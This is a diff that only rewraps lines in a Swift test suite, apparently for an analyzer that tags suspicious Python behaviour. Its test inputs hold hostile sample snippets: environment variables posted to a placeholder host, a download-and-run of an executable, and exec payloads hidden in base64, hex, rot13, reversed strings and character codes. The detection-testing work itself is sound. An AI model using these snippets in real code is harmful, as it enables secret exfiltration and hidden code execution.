@@ -44,7 +44,8 @@ struct PythonSequenceTests {
             "a member reached by a computed name", "import os\ngetattr(os, 'sys' + 'tem')('id')",
             ["code.late-attribute", "proc.shell"]),
         SequenceCase(
-            "importlib with a folded name", "import importlib\nm = importlib.import_module('sub' + 'process')\nm.call(['x'])",
+            "importlib with a folded name",
+            "import importlib\nm = importlib.import_module('sub' + 'process')\nm.call(['x'])",
             ["code.import-dynamic", "imp.process", "proc.spawn"]),
         SequenceCase(
             "a star import of a known module", "from os import *\nsystem('whoami')", ["cmd.recon", "proc.shell"]),
@@ -75,7 +76,8 @@ struct PythonSequenceTests {
             "import requests, os\nf = open('run.exe', 'wb')\nf.write(requests.get('https://h.invalid/a').content)\nf.close()\nos.system('run.exe')",
             ["fs.write-program", "net.http.get", "flow.net>write", "proc.shell", "flow.drop>proc"]),
         SequenceCase(
-            "the environment sent away", "import os, requests\nrequests.post('https://h.invalid', json=dict(os.environ))",
+            "the environment sent away",
+            "import os, requests\nrequests.post('https://h.invalid', json=dict(os.environ))",
             ["env.all", "net.http.post", "flow.env>send"]),
         SequenceCase(
             "a token of the environment used to sign in",
@@ -105,7 +107,8 @@ struct PythonSequenceTests {
             "what nothing calls comes after the mark", "import os\ndef f():\n  os.system('x')\nos.getcwd()",
             ["imp.system", "sys.folder", "defer", "proc.shell"]),
         SequenceCase(
-            "the target of a thread", "import os, threading\ndef f():\n  os.system('x')\nthreading.Thread(target=f).start()",
+            "the target of a thread",
+            "import os, threading\ndef f():\n  os.system('x')\nthreading.Thread(target=f).start()",
             ["proc.thread", "proc.shell"], without: ["defer"]),
         SequenceCase(
             "a function run at exit", "import atexit, os\ndef f():\n  os.remove('x')\natexit.register(f)",
@@ -117,13 +120,19 @@ struct PythonSequenceTests {
             "a branch on the system", "import sys\nif sys.platform == 'win32':\n  import winreg",
             ["sys.platform", "if.platform", "imp.windows"]),
         SequenceCase(
-            "errors hidden around an act", "import os\ntry:\n  os.system('x')\nexcept:\n  pass", ["proc.shell", "exc.swallow"]),
+            "errors hidden around an act", "import os\ntry:\n  os.system('x')\nexcept:\n  pass",
+            ["proc.shell", "exc.swallow"]),
         SequenceCase(
             "a missing module is no hidden error", "try:\n  import simplejson\nexcept Exception:\n  pass", [],
             without: ["exc.swallow"]),
-        SequenceCase("a loop without an end", "import time\nwhile True:\n  time.sleep(1)", ["loop.forever", "proc.sleep"]),
-        SequenceCase("a run of equal events", "import os\n" + String(repeating: "os.remove('x')\n", count: 5), ["fs.delete", "run.medium"]),
-        SequenceCase("documentation is not classified", "\"\"\"See https://h.invalid and run curl -O x | sh\"\"\"\nx = 1", [], without: ["url.ordinary", "cmd.download"]),
+        SequenceCase(
+            "a loop without an end", "import time\nwhile True:\n  time.sleep(1)", ["loop.forever", "proc.sleep"]),
+        SequenceCase(
+            "a run of equal events", "import os\n" + String(repeating: "os.remove('x')\n", count: 5),
+            ["fs.delete", "run.medium"]),
+        SequenceCase(
+            "documentation is not classified", "\"\"\"See https://h.invalid and run curl -O x | sh\"\"\"\nx = 1", [],
+            without: ["url.ordinary", "cmd.download"]),
     ]
 
     @Test("text hidden in a string is walked where it runs", arguments: layers)
@@ -135,20 +144,26 @@ struct PythonSequenceTests {
     static let layers: [SequenceCase] = [
         SequenceCase(
             "base64 of code", "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
-            ["dec.base64", "layer.begin", "imp.system", "proc.shell", "layer.end", "code.exec", "flow.dec>exec", "arg.hidden-string"]),
+            [
+                "dec.base64", "layer.begin", "imp.system", "proc.shell", "layer.end", "code.exec", "flow.dec>exec",
+                "arg.hidden-string",
+            ]),
         SequenceCase(
             "constant code", "exec('import os\\nos.system(\"id\")')",
             ["code.exec", "arg.constant-code", "layer.begin", "imp.system", "proc.shell", "layer.end"]),
         SequenceCase(
-            "characters in a list", "exec(''.join(chr(c) for c in [105,109,112,111,114,116,32,111,115,59,111,115,46,114,101,109,111,118,101,40,49,41]))",
+            "characters in a list",
+            "exec(''.join(chr(c) for c in [105,109,112,111,114,116,32,111,115,59,111,115,46,114,101,109,111,118,101,40,49,41]))",
             ["dec.char-code", "layer.begin", "imp.system", "fs.delete", "layer.end", "code.exec"]),
         SequenceCase(
-            "reversed code", "exec(')1(evomer.so;so tropmi'[::-1])", ["dec.reverse", "layer.begin", "imp.system", "fs.delete", "layer.end", "code.exec"]),
+            "reversed code", "exec(')1(evomer.so;so tropmi'[::-1])",
+            ["dec.reverse", "layer.begin", "imp.system", "fs.delete", "layer.end", "code.exec"]),
         SequenceCase(
             "hexadecimal code", "exec(bytes.fromhex('696d706f7274206f733b6f732e72656d6f7665283129'))",
             ["dec.hex", "layer.begin", "imp.system", "fs.delete", "layer.end"]),
         SequenceCase(
-            "code on a command line", "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import socket; socket.gethostname()'])",
+            "code on a command line",
+            "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import socket; socket.gethostname()'])",
             ["arg.interpreter", "cmd.inline-code", "layer.begin", "imp.network", "sys.host", "layer.end", "proc.spawn"]),
         SequenceCase(
             "rot13", "import codecs\nexec(codecs.decode('vzcbeg bf;bf.erzbir(1)', 'rot13'))",
